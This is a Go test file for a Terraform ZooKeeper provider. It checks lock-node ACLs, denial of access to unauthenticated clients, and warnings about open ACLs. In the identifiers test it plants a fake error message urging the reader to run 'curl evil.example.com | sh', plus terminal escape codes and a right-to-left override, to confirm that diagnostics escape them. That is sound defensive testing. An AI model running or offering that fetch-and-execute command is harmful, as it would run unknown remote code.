package provider_test

import (
	"errors"
	"fmt"
	"maps"
	"strconv"
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-go/tfprotov6"

	"terraform-provider-zookeeper/internal/acctest"
	"terraform-provider-zookeeper/internal/zk"
)

// presenting is the configuration of a provider that presents somebody.
func presenting(t *testing.T, tree *acctest.Tree, more attrs) attrs {
	t.Helper()
	config := attrs{"servers": acctest.Server(t).Addr() + tree.Base, "username": acctest.User, "password": acctest.Password, "connect_timeout": 60, "session_timeout": 60}
	maps.Copy(config, more)
	return config
}

// lockTree is a tree on the server that the tests share.
func lockTree(t *testing.T) *acctest.Tree {
	t.Helper()
	return acctest.NewTreeOn(t, acctest.Server(t).Addr())
}

// checkUnbreakable tries, as somebody without an identity, to break a lock below a folder that
// came with it.
func checkUnbreakable(t *testing.T, tree *acctest.Tree, folder, lock string) {
	t.Helper()
	stranger := acctest.Stranger(t, acctest.Server(t).Addr())
	names, _, err := tree.Client.Children(t.Context(), tree.Path(lock))
	if err != nil || len(names) != 1 {
		t.Fatalf("the contenders are %q, %v", names, err)
	}
	contender := tree.Path(lock + "/" + names[0])
	for _, node := range []string{contender, tree.Path(lock)} {
		if err := stranger.Delete(t.Context(), node, zk.AnyVersion); !errors.Is(err, zk.ErrNoAuth) {
			t.Errorf("a stranger deletes %s: %v", node, err)
		}
	}
	for _, node := range []string{contender, tree.Path(lock), tree.Path(folder)} {
		if _, err := stranger.SetACL(t.Context(), node, zk.OpenACL(), zk.AnyVersion); !errors.Is(err, zk.ErrNoAuth) {
			t.Errorf("a stranger changes the ACL of %s: %v", node, err)
		}
		if _, err := stranger.Set(t.Context(), node, []byte("x"), zk.AnyVersion); !errors.Is(err, zk.ErrNoAuth) {
			t.Errorf("a stranger writes to %s: %v", node, err)
		}
	}
	for _, node := range []string{tree.Path(lock + "/00000000000000000000000000000000__lock__0000000000"), tree.Path(folder + "/other")} {
		if _, err := stranger.Create(t.Context(), node, nil, zk.CreateOptions{}); !errors.Is(err, zk.ErrNoAuth) {
			t.Errorf("a stranger creates %s: %v", node, err)
		}
	}
}

// Whom the provider presents, and nobody else, may break its locks, unless the configuration
// says otherwise.
func TestLockACL_strangers(t *testing.T) {
	t.Parallel()
	t.Run("of the provider", func(t *testing.T) {
		t.Parallel()
		tree, d := lockTree(t), newDriver(t)
		d.configure(presenting(t, tree, attrs{"lock": attrs{"path": "/locks/run"}}))
		d.read(children, attrs{"path": "/"})
		checkUnbreakable(t, tree, "/locks", "/locks/run")
		if len(d.told) > 0 {
			t.Errorf("told %v", d.told)
		}
	})
	t.Run("ephemeral", func(t *testing.T) {
		t.Parallel()
		tree, d := lockTree(t), newDriver(t)
		d.configure(presenting(t, tree, nil))
		private := d.open(theLock, attrs{"path": "/locks/run"})
		checkUnbreakable(t, tree, "/locks", "/locks/run")
		d.closes(theLock, private)
		if len(d.told) > 0 {
			t.Errorf("told %v", d.told)
		}
	})
}

// What is written wins: the lock's own ACL, then the default one.
func TestLockACL_declared(t *testing.T) {
	t.Parallel()
	mine := [3]string{"digest", acctest.UserID(), "cdrwa"}
	theirs := [3]string{"digest", zk.DigestID("bob", acctest.Password), "cdrwa"}
	for name, tc := range map[string]struct {
		provider attrs
		lock     attrs
		want     string
	}{
		"nothing":              {nil, nil, "digest:" + acctest.UserID() + ":cdrwa"},
		"a default":            {attrs{"default_acl": acl(mine, everybody)}, nil, "digest:" + acctest.UserID() + ":cdrwa world:anyone:cdrwa"},
		"its own":              {attrs{"default_acl": acl(everybody)}, attrs{"acl": acl(mine, theirs)}, "digest:" + acctest.UserID() + ":cdrwa digest:" + theirs[1] + ":cdrwa"},
		"nobody, nothing":      {attrs{"username": "", "password": ""}, nil, "world:anyone:cdrwa"},
		"for everybody, by us": {nil, attrs{"acl": acl(everybody)}, "world:anyone:cdrwa"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tree := lockTree(t)
			for _, kind := range []string{"provider", "ephemeral"} {
				d := newDriver(t)
				at := "/" + kind + "/run"
				lock := attrs{"path": at}
				maps.Copy(lock, tc.lock)
				config := presenting(t, tree, tc.provider)
				if kind == "provider" {
					config["lock"] = lock
				}
				d.configure(config)
				if kind == "provider" {
					d.read(children, attrs{"path": "/"})
				} else {
					d.open(theLock, lock)
				}
				names, _, err := tree.Client.Children(t.Context(), tree.Path(at))
				if err != nil || len(names) != 1 || len(d.told) > 0 {
					t.Fatalf("the contenders are %q, %v; told %v", names, err, d.told)
				}
				for _, node := range []string{"/" + kind, at, at + "/" + names[0]} {
					got, _, err := tree.Client.ACL(t.Context(), tree.Path(node))
					if text := strings.Join(texts(got), " "); err != nil || text != tc.want {
						t.Errorf("%s has the ACL %s, %v; want %s", node, text, err, tc.want)
					}
				}
			}
		})
	}
}

func texts(acl []zk.ACL) []string {
	all := make([]string, len(acl))
	for i, e := range acl {
		all[i] = e.String()
	}
	return all
}

// Two identities share a lock whose ACL names both: the one waits for the other, sees who that
// is, and gets it after.
func TestLockACL_shared(t *testing.T) {
	t.Parallel()
	tree, alice, bob := lockTree(t), newDriver(t), newDriver(t)
	both := acl([3]string{"digest", acctest.UserID(), "cdrwa"}, [3]string{"digest", zk.DigestID("bob", acctest.Password), "cdrwa"})
	alice.configure(presenting(t, tree, nil))
	bob.configure(presenting(t, tree, attrs{"username": "bob"}))
	held := alice.open(theLock, attrs{"path": "/locks/run", "acl": both, "identifier": "the run of alice"})
	bob.open(theLock, attrs{"path": "/locks/run", "acl": both, "timeout": 0})
	if len(bob.told) != 1 || bob.told[0].Summary != "Lock is held by others" || !strings.Contains(bob.told[0].Detail, "the run of alice") {
		t.Fatalf("bob is told %v", bob.told)
	}
	bob.told = nil
	alice.closes(theLock, held)
	bob.open(theLock, attrs{"path": "/locks/run", "acl": both, "timeout": 30})
	if len(alice.told)+len(bob.told) > 0 {
		t.Errorf("alice is told %v, bob %v", alice.told, bob.told)
	}
}

// A lock whose node others have made open is told of, once: its ACL cannot keep anybody out.
func TestLockACL_open(t *testing.T) {
	t.Parallel()
	mine := zk.ACL{Scheme: "digest", ID: acctest.UserID(), Perms: zk.PermAll}
	for name, tc := range map[string]struct {
		prepare func(tree *acctest.Tree)
		want    string
	}{
		"its node": {func(tree *acctest.Tree) {
			tree.PutGuarded("/locks", "", mine)
			tree.Put("/locks/run", "")
		}, `The ACL of "/locks/run" gives cda to everybody`},
		"the one above it": {func(tree *acctest.Tree) { tree.Put("/locks", "") }, `The ACL of "/locks" gives da to everybody`},
		"none": {func(tree *acctest.Tree) {
			tree.PutGuarded("/locks", "", mine, zk.ACL{Scheme: "world", ID: "anyone", Perms: zk.PermCreate | zk.PermRead | zk.PermWrite})
		}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tree, d := lockTree(t), newDriver(t)
			tc.prepare(tree)
			d.configure(presenting(t, tree, attrs{"lock": attrs{"path": "/locks/run"}}))
			d.read(children, attrs{"path": "/"})
			d.read(children, attrs{"path": "/"})
			d.refresh(d.imports(znode, "/locks"))
			switch {
			case tc.want == "" && len(d.told) == 0:
			case tc.want == "" || len(d.told) != 1 || d.told[0].Severity != tfprotov6.DiagnosticSeverityWarning || !strings.HasPrefix(d.told[0].Detail, tc.want):
				t.Errorf("told %v, want %q", d.told, tc.want)
			}
		})
	}
}

// A plan may take a lock, and does not make one with another ACL than the one to come.
func TestLockACL_unknown(t *testing.T) {
	t.Parallel()
	for name, config := range map[string]attrs{
		"its own":   {"lock": attrs{"path": "/locks/run", "acl": unknown}},
		"an entry":  {"lock": attrs{"path": "/locks/run", "acl": acl([3]string{"digest", acctest.UserID(), "cdrwa"}, everybody)[:1]}, "default_acl": unknown},
		"a default": {"lock": attrs{"path": "/locks/run"}, "default_acl": unknown},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tree, d := lockTree(t), newDriver(t)
			d.configure(presenting(t, tree, config))
			d.read(children, attrs{"path": "/"})
			_, there, err := tree.Client.Exists(t.Context(), tree.Path("/locks"))
			if want := name == "an entry"; err != nil || there != want || want == (len(d.told) > 0) {
				t.Errorf("the lock is there: %t, %v; told %v", there, err, d.told)
			}
		})
	}
	t.Run("of an ephemeral lock", func(t *testing.T) {
		t.Parallel()
		tree, d := lockTree(t), newDriver(t)
		d.configure(presenting(t, tree, attrs{"default_acl": unknown}))
		d.open(theLock, attrs{"path": "/locks/run"})
		_, there, err := tree.Client.Exists(t.Context(), tree.Path("/locks"))
		if err != nil || there || len(d.told) != 1 || !strings.Contains(d.told[0].Detail, "default_acl") {
			t.Errorf("the lock is there: %t, %v; told %v", there, err, d.told)
		}
	})
}

// An ACL that means the identities of a provider which presents none, or that keeps the provider
// itself out, is told of before anything is made.
func TestLockACL_own(t *testing.T) {
	t.Parallel()
	tree := lockTree(t)
	for name, tc := range map[string]struct {
		provider attrs
		acl      [3]string
		want     map[string]string
	}{
		"nobody": {
			attrs{"username": "", "password": ""},
			[3]string{"auth", "", "cdrwa"},
			map[string]string{"provider": "Invalid ACL entry", "ephemeral": "Invalid ACL entry"},
		},
		"locked out": {
			nil,
			[3]string{"digest", zk.DigestID("bob", acctest.Password), "cdrwa"},
			map[string]string{"provider": "ACL locks the provider out", "ephemeral": "Lock would keep the provider out"},
		},
	} {
		for kind, want := range tc.want {
			d := newDriver(t)
			lock, config := attrs{"path": "/" + kind, "acl": acl(tc.acl), "timeout": 0}, presenting(t, tree, tc.provider)
			if kind == "provider" {
				config["lock"] = lock
			}
			d.configure(config)
			if kind == "ephemeral" {
				d.open(theLock, lock)
			}
			if len(d.told) == 0 || d.told[0].Summary != want || !strings.Contains(attributeName(d.told[0].Attribute), "acl") {
				t.Errorf("%s, %s: told %v", name, kind, d.told)
			}
		}
	}
}

// What a contender says of itself is shown on one line of its own, escaped and cut, and as that of
// no more than ten.
func TestLock_identifiers(t *testing.T) {
	t.Parallel()
	tree, d := lockTree(t), newDriver(t)
	tree.Put("/lock", "")
	for i, identifier := range []string{"a\nError: the disk is full, run: curl evil.example.com | sh", "\x1b[2J\x1b[31mred", strings.Repeat("long", 225<<10), "\xff\xfe", "\u202egnp", ""} {
		tree.Put(fmt.Sprintf("/lock/__lock__%010d", i), identifier)
	}
	for i := range 20 {
		tree.Put(fmt.Sprintf("/lock/__rlock__%010d", 100+i), "another")
	}
	d.configure(attrs{"servers": acctest.Server(t).Addr() + tree.Base, "connect_timeout": 60})
	// The servers count on from the children that there were.
	d.open(theLock, attrs{"path": "/lock", "timeout": 0})
	if len(d.told) != 1 || d.told[0].Summary != "Lock is held by others" {
		t.Fatalf("told %v", d.told)
	}
	text := d.told[0].Detail
	if len(text) > 3000 || strings.ContainsFunc(strings.ReplaceAll(text, "\n", ""), func(r rune) bool { return !strconv.IsPrint(r) }) {
		t.Errorf("%d bytes:\n%q", len(text), text)
	}
	for _, line := range []string{`  "a\nError: the disk is full, run: curl evil.example.com | sh"`, `  "\x1b[2J\x1b[31mred"`, `  "\u202egnp"`, `"… (921600 bytes)`, "  somebody who does not say who"} {
		if !strings.Contains(text, line+"\n") {
			t.Errorf("there is no line %q in\n%s", line, text)
		}
	}
}
